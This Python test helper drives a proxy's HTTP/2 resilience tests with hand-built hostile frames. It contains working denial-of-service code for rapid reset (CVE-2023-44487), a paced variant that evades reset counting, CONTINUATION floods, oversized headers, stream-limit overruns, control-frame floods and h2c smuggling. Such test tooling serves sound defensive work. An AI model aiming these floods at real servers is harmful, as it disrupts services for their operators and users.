# A hostile HTTP/2 client for tests/tests/h2_hostile.rs, run INSIDE `tollgate run` with the
# test venv's interpreter (hyperframe and hpack from PyPI; h2's own state machine would
# refuse to send most of what this sends, so frames are built by hand).
#
#   h2_hostile_client.py HOST
#
# Reads one JSON command per line on stdin, e.g. {"phase": "rapid_reset", "streams": 5000},
# runs it against the proxy named by HTTPS_PROXY and prints one JSON line back:
# {"phase": ..., <what it observed>}. Each attack opens its own connection: CONNECT HOST:443
# through the proxy, TLS with ALPN h2 trusting the execution's CA (SSL_CERT_FILE), the
# client preface, then the attack. What it reports about a connection (`observed`):
#   alpn              what the handshake chose (anything but "h2" ends the phase there)
#   settings          the server's first SETTINGS, by name
#   goaway            {code, last_stream, debug} of the server's GOAWAY, if one came
#   closed            whether the server closed the connection (EOF) before the phase ended
#   status / reset    response status and RST_STREAM code per stream id
# Every wait is bounded by GUARD seconds (a guard against hangs, not a measurement).

import asyncio
import json
import os
import ssl
import sys
from urllib.parse import urlsplit

import hpack
from hpack.hpack import encode_integer
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

HOST = sys.argv[1]
GUARD = 20.0
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
SETTING_NAMES = {
    0x1: "header_table_size",
    0x2: "enable_push",
    0x3: "max_concurrent_streams",
    0x4: "initial_window_size",
    0x5: "max_frame_size",
    0x6: "max_header_list_size",
    0x8: "enable_connect_protocol",
}


def proxy_address():
    url = urlsplit(os.environ["HTTPS_PROXY"])
    return url.hostname, url.port


class Closed(Exception):
    """The server closed the connection (or stopped reading) while we were sending."""


class Peer:
    """One HTTP/2 connection through a CONNECT tunnel: a reader task that records every
    frame the server sends, and raw frame writers."""

    def __init__(self, reader, writer, alpn):
        self.reader, self.writer, self.alpn = reader, writer, alpn
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.encoder = hpack.Encoder()
        self.settings = None
        self.goaway = None
        self.closed = False
        self.status = {}
        self.reset = {}
        self.blocks = {}
        self.ping_acks = 0
        self.frames_in = 0
        self.changed = asyncio.Event()
        self.next_stream = 1
        self.task = None

    @classmethod
    async def open(cls, alpn=("h2", "http/1.1"), preface=True):
        reader, writer = await tunnel()
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        context.set_alpn_protocols(list(alpn))
        await asyncio.wait_for(writer.start_tls(context, server_hostname=HOST), GUARD)
        chosen = writer.get_extra_info("ssl_object").selected_alpn_protocol()
        peer = cls(reader, writer, chosen)
        if chosen == "h2" and preface:
            peer.task = asyncio.ensure_future(peer.read_loop())
            await peer.send(PREFACE + SettingsFrame(0).serialize())
            await peer.until(lambda: peer.settings is not None)
        return peer

    # -- reading ------------------------------------------------------------------------

    async def read_loop(self):
        try:
            while True:
                head = await self.reader.readexactly(9)
                frame, length = Frame.parse_frame_header(memoryview(head))
                body = await self.reader.readexactly(length) if length else b""
                frame.parse_body(memoryview(body))
                self.frames_in += 1
                await self.on_frame(frame)
                self.changed.set()
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError, OSError):
            pass
        finally:
            self.closed = True
            self.changed.set()

    async def on_frame(self, frame):
        kind = type(frame).__name__
        if kind == "SettingsFrame" and "ACK" not in frame.flags:
            if self.settings is None:
                self.settings = {SETTING_NAMES.get(k, str(k)): v for k, v in frame.settings.items()}
            await self.send(SettingsFrame(0, flags=["ACK"]).serialize(), quiet=True)
        elif kind == "GoAwayFrame":
            self.goaway = {
                "code": frame.error_code,
                "last_stream": frame.last_stream_id,
                "debug": bytes(frame.additional_data).decode("utf-8", "replace"),
            }
        elif kind == "RstStreamFrame":
            self.reset[frame.stream_id] = frame.error_code
        elif kind in ("HeadersFrame", "ContinuationFrame"):
            block = self.blocks.get(frame.stream_id, b"") + bytes(frame.data)
            if "END_HEADERS" in frame.flags:
                self.blocks.pop(frame.stream_id, None)
                headers = dict(self.decoder.decode(block))
                if ":status" in headers and frame.stream_id not in self.status:
                    self.status[frame.stream_id] = int(headers[":status"])
            else:
                self.blocks[frame.stream_id] = block
        elif kind == "PingFrame" and "ACK" in frame.flags:
            self.ping_acks += 1

    async def until(self, condition, limit=GUARD):
        """Waits until `condition()` holds, the connection closes, or `limit` passes;
        returns whether the condition held."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + limit
        while not condition():
            if self.closed or loop.time() >= deadline:
                return condition()
            self.changed.clear()
            try:
                await asyncio.wait_for(self.changed.wait(), deadline - loop.time())
            except asyncio.TimeoutError:
                pass
        return True

    async def wait_closed(self):
        """Waits for the server to close the connection; returns whether it did."""
        return await self.until(lambda: self.closed)

    # -- writing ------------------------------------------------------------------------

    async def send(self, data, quiet=False):
        if self.writer.is_closing():
            if quiet:
                return
            raise Closed()
        self.writer.write(data)
        try:
            await asyncio.wait_for(self.writer.drain(), GUARD)
        except (ConnectionError, ssl.SSLError, OSError, asyncio.TimeoutError) as e:
            if not quiet:
                raise Closed() from e

    def stream(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def request_block(self, path, method="GET", extra=()):
        headers = [(":method", method), (":scheme", "https"), (":authority", HOST), (":path", path)]
        return self.encoder.encode(headers + list(extra))

    def headers(self, sid, block, end_stream=True, end_headers=True):
        flags = (["END_HEADERS"] if end_headers else []) + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(sid, data=block, flags=flags).serialize()

    async def get(self, path, extra=()):
        """One request; returns its stream id (the response lands in `status`)."""
        sid = self.stream()
        await self.send(self.headers(sid, self.request_block(path, extra=extra)))
        return sid

    async def ping(self, payload=b"tollgate"):
        """A PING, then waits for its ACK; returns whether it came."""
        acks = self.ping_acks
        await self.send(PingFrame(0, opaque_data=payload).serialize())
        return await self.until(lambda: self.ping_acks > acks)

    async def flood(self, frames, batch=200):
        """Sends `frames` (serialized) in batches until done or the server stops us; returns
        how many went out."""
        sent = 0
        for start in range(0, len(frames), batch):
            if self.goaway is not None or self.closed:
                break
            try:
                await self.send(b"".join(frames[start : start + batch]))
            except Closed:
                break
            sent += len(frames[start : start + batch])
        return sent

    def observed(self):
        return {
            "alpn": self.alpn,
            "settings": self.settings,
            "goaway": self.goaway,
            "closed": self.closed,
            "status": {str(k): v for k, v in self.status.items()},
            "reset": {str(k): v for k, v in self.reset.items()},
            "ping_acks": self.ping_acks,
            "frames_in": self.frames_in,
        }

    def close(self):
        if self.task is not None:
            self.task.cancel()
        self.writer.close()


async def tunnel():
    """A CONNECT HOST:443 tunnel through the proxy; raises unless it answered 200."""
    reader, writer = await asyncio.wait_for(asyncio.open_connection(*proxy_address()), GUARD)
    writer.write(f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n".encode())
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), GUARD)
    status = head.split(b" ", 2)[1]
    if status != b"200":
        raise RuntimeError(f"CONNECT answered {head!r}")
    return reader, writer


def not_h2(peer):
    peer.close()
    return {"alpn": peer.alpn}


# -- the attacks ------------------------------------------------------------------------


async def rapid_reset(cmd):
    """CVE-2023-44487: HEADERS immediately followed by RST_STREAM(CANCEL), thousands of
    times, as fast as the connection takes them."""
    peer = await Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    frames = []
    for i in range(cmd["streams"]):
        sid = peer.stream()
        block = peer.request_block(f"/rr/{i}")
        frames.append(peer.headers(sid, block) + RstStreamFrame(sid, error_code=CANCEL).serialize())
    sent = await peer.flood(frames, batch=100)
    closed = await peer.wait_closed()
    result = {"sent": sent, "closed_after": closed, **peer.observed()}
    peer.close()
    return result


async def paced_reset(cmd):
    """Rapid reset where each stream is in the server's hands before it is cancelled: the
    HEADERS, a PING whose ACK says the server has read them, then the RST_STREAM. A
    server that only counts resets of streams it has not yet accepted misses this one."""
    peer = await Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    sent = 0
    try:
        for i in range(cmd["streams"]):
            if peer.goaway is not None or peer.closed:
                break
            sid = peer.stream()
            await peer.send(peer.headers(sid, peer.request_block(f"/pr/{i}")))
            if not await peer.ping(i.to_bytes(8, "big")):
                break
            await peer.send(RstStreamFrame(sid, error_code=CANCEL).serialize())
            sent += 1
    except Closed:
        pass
    closed = await peer.wait_closed()
    result = {"sent": sent, "closed_after": closed, **peer.observed()}
    peer.close()
    return result


async def continuation_flood(cmd):
    """CVE-2024-27316 family: a HEADERS without END_HEADERS, then CONTINUATION frames that
    never end the block, `shape` "empty" (zero-length frames) or "full" (16 KiB frames of
    one endless header value). Up to `frames` frames or until the server stops it."""
    peer = await Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    sid = peer.stream()
    block = peer.request_block("/cont", extra=[("x-flood", "v")])
    frames = [peer.headers(sid, block, end_stream=True, end_headers=False)]
    if cmd["shape"] == "empty":
        frames += [ContinuationFrame(sid, data=b"").serialize()] * cmd["frames"]
        batch = 1000
    else:
        # A literal field without indexing whose value says 64 MiB: the block cannot end
        # soon, so a server that buffers it grows until something stops it.
        value_length = bytes(encode_integer(64 << 20, 7))
        start = b"\x00\x07x-flood" + value_length
        frames.append(ContinuationFrame(sid, data=start).serialize())
        chunk = ContinuationFrame(sid, data=b"a" * 16384).serialize()
        frames += [chunk] * cmd["frames"]
        batch = 8
    sent = await peer.flood(frames, batch=batch)
    closed = await peer.wait_closed()
    result = {"sent": sent, "closed_after": closed, **peer.observed()}
    peer.close()
    return result


def fragments(sid, block, size=16384):
    """A header block as HEADERS + CONTINUATION frames of at most `size` bytes."""
    parts = [block[i : i + size] for i in range(0, len(block), size)] or [b""]
    frames = []
    for n, part in enumerate(parts):
        flags = ["END_HEADERS"] if n == len(parts) - 1 else []
        if n == 0:
            frames.append(HeadersFrame(sid, data=part, flags=flags + ["END_STREAM"]).serialize())
        else:
            frames.append(ContinuationFrame(sid, data=part, flags=flags).serialize())
    return b"".join(frames)


async def big_headers(cmd):
    """One request whose header list decodes to `kib` KiB (fields of 1 KiB, each never
    indexed so every byte is on the wire), then a normal request on the same connection."""
    peer = await Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    big = peer.stream()
    fields = [
        hpack.HeaderTuple(f"x-big-{i}", "%04d" % i + "b" * 1020) for i in range(cmd["kib"])
    ]
    never = [hpack.NeverIndexedHeaderTuple(k, v) for k, v in fields]
    block = peer.encoder.encode(
        [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "/big")] + never,
        huffman=False,
    )
    await peer.send(fragments(big, block))
    await peer.until(lambda: big in peer.status or big in peer.reset)
    after = None
    if peer.goaway is None and not peer.closed:
        after = await peer.get("/after-big")
        await peer.until(lambda: after in peer.status or after in peer.reset)
    if peer.goaway is not None:
        await peer.wait_closed()
    result = {"big": big, "after": after, "block_bytes": len(block), **peer.observed()}
    peer.close()
    return result


async def concurrency(cmd):
    """More streams than the server's SETTINGS_MAX_CONCURRENT_STREAMS, each held open (a
    POST whose body has not come: the upstream waits for it), then the bodies of those the
    server took."""
    peer = await Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    limit = (peer.settings or {}).get("max_concurrent_streams")
    opened = (limit if limit is not None else cmd["without_limit"]) + cmd["excess"]
    sids, frames = [], []
    for i in range(opened):
        sid = peer.stream()
        sids.append(sid)
        block = peer.request_block(f"/cc/{i}", method="POST", extra=[("content-length", "2")])
        frames.append(peer.headers(sid, block, end_stream=False))
    sent = await peer.flood(frames, batch=50)
    # The PING's ACK comes after the server has read every HEADERS before it.
    pinged = await peer.ping() if sent == opened else False
    refused_early = [s for s in sids if peer.reset.get(s) == 0x7]
    taken = [s for s in sids if s not in peer.reset and s not in peer.status]
    try:
        for sid in taken:
            await peer.send(DataFrame(sid, data=b"ok", flags=["END_STREAM"]).serialize())
    except Closed:
        pass
    await peer.until(lambda: all(s in peer.status or s in peer.reset for s in taken))
    result = {
        "limit": limit,
        "opened": opened,
        "sent": sent,
        "pinged": pinged,
        "refused": len(refused_early),
        "taken": len(taken),
        "taken_ok": sum(1 for s in taken if peer.status.get(s) == 200),
        **peer.observed(),
    }
    result.pop("status")
    result.pop("reset")
    peer.close()
    return result


async def control_flood(cmd):
    """`frames` PING frames (`kind` "ping") or SETTINGS frames ("settings") as fast as the
    connection takes them, then a normal request on the same connection if it survived."""
    peer = await Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    if cmd["kind"] == "ping":
        one = PingFrame(0, opaque_data=b"floodpin").serialize()
    else:
        one = SettingsFrame(0, settings={0x4: 65535, 0x1: 4096}).serialize()
    sent = await peer.flood([one] * cmd["frames"], batch=500)
    after = None
    if peer.goaway is None and not peer.closed:
        after = await peer.get("/after-flood")
        await peer.until(lambda: after in peer.status or after in peer.reset)
    else:
        await peer.wait_closed()
    result = {"sent": sent, "after": after, **peer.observed()}
    peer.close()
    return result


# Connection-specific header fields (RFC 9113 §8.2.2): a request carrying any is malformed.
CONNECTION_SPECIFIC = [
    ("connection", "keep-alive"),
    ("transfer-encoding", "chunked"),
    ("upgrade", "websocket"),
    ("te", "gzip"),
    ("keep-alive", "timeout=5"),
    ("proxy-connection", "keep-alive"),
]


async def connection_headers(cmd):
    """One stream per connection-specific header, then a clean stream, all on one
    connection."""
    peer = await Peer.open()
    if peer.alpn != "h2":
        return not_h2(peer)
    bad = {}
    for name, value in CONNECTION_SPECIFIC:
        bad[name] = await peer.get(f"/ch/bad-{name}", extra=[(name, value)])
    good = await peer.get("/ch/good")
    done = lambda s: s in peer.status or s in peer.reset
    await peer.until(lambda: all(done(s) for s in [good, *bad.values()]))
    result = {
        "good": good,
        "bad": {name: str(sid) for name, sid in bad.items()},
        **peer.observed(),
    }
    peer.close()
    return result


async def read_raw(reader):
    """Everything the server sends until it closes (bounded by GUARD)."""
    data = b""
    try:
        while True:
            chunk = await asyncio.wait_for(reader.read(65536), GUARD)
            if not chunk:
                return data, True
            data += chunk
    except (asyncio.TimeoutError, ConnectionError, ssl.SSLError, OSError):
        return data, False


def parse_frames(data):
    """The HTTP/2 frames in `data` (or, when it is not HTTP/2, its first line)."""
    if data.startswith(b"HTTP/"):
        return {"http1": data.split(b"\r\n", 1)[0].decode("latin-1")}
    frames, goaway = [], None
    while len(data) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(data[:9]))
        if len(data) < 9 + length:
            break
        frame.parse_body(memoryview(data[9 : 9 + length]))
        data = data[9 + length :]
        frames.append(type(frame).__name__)
        if isinstance(frame, GoAwayFrame):
            goaway = {
                "code": frame.error_code,
                "last_stream": frame.last_stream_id,
                "debug": bytes(frame.additional_data).decode("utf-8", "replace"),
            }
    return {"frames": frames, "goaway": goaway, "trailing": len(data)}


async def h2c(cmd):
    """HTTP/2 with prior knowledge in plain text: the preface, SETTINGS and a request,
    `where` "proxy" (straight to the proxy port) or "tunnel" (the first bytes inside an
    intercepted CONNECT tunnel)."""
    if cmd["where"] == "proxy":
        reader, writer = await asyncio.wait_for(asyncio.open_connection(*proxy_address()), GUARD)
    else:
        reader, writer = await tunnel()
    block = hpack.Encoder().encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", HOST), (":path", "/h2c")]
    )
    writer.write(
        PREFACE
        + SettingsFrame(0).serialize()
        + HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize()
    )
    await writer.drain()
    data, closed = await read_raw(reader)
    writer.close()
    return {"closed": closed, "bytes": len(data), **parse_frames(data)}


ATTACKS = {
    "rapid_reset": rapid_reset,
    "paced_reset": paced_reset,
    "continuation_flood": continuation_flood,
    "big_headers": big_headers,
    "concurrency": concurrency,
    "control_flood": control_flood,
    "connection_headers": connection_headers,
    "h2c": h2c,
}


def fresh(cmd):
    """A well-behaved client on a fresh connection: httpx with HTTP/2 through the proxy."""
    import httpx

    with httpx.Client(http2=True, timeout=GUARD) as client:
        r = client.get(f"https://{HOST}/fresh/{cmd.get('tag', '')}")
        return {"status": r.status_code, "http_version": r.http_version}


def main():
    for line in sys.stdin:
        if not line.strip():
            continue
        cmd = json.loads(line)
        phase = cmd["phase"]
        try:
            if phase == "fresh":
                result = fresh(cmd)
            else:
                result = asyncio.run(ATTACKS[phase](cmd))
        except Exception as e:  # reported, so the test's message says what broke
            result = {"exception": f"{type(e).__name__}: {e}"}
        print(json.dumps({"phase": phase, **result}), flush=True)


main()
